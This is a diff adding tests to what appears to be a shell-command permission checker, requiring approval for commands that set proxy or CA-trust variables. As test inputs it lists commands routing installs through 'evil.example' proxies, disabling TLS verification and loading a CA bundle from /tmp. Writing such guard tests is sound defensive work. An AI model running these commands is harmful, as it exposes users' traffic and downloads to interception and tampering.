@@ -186,3 +186,22 @@ describe('CMake launcher variables name a program run at every compile', () => {
     );
   });
 });
+
+describe('variables that reroute connections or change what is trusted', () => {
+  it('asks for proxy and CA variables in any spelling of setting them', () => {
+    expectAll(
+      [
+        'https_proxy=http://evil.example:8080 pip install requests',
+        'env HTTPS_PROXY=http://x.example:1 npm ci',
+        'export ALL_PROXY=socks5://x.example:1080',
+        'NODE_TLS_REJECT_UNAUTHORIZED=0 npm install',
+        'REQUESTS_CA_BUNDLE=/tmp/ca.crt python x.py',
+      ],
+      'ask',
+    );
+  });
+
+  it('keeps reading them and other variables allowed', () => {
+    expectAll(['echo $HTTPS_PROXY', 'NODE_ENV=test npm test', 'CI=1 pytest -q'], 'allow');
+  });
+});
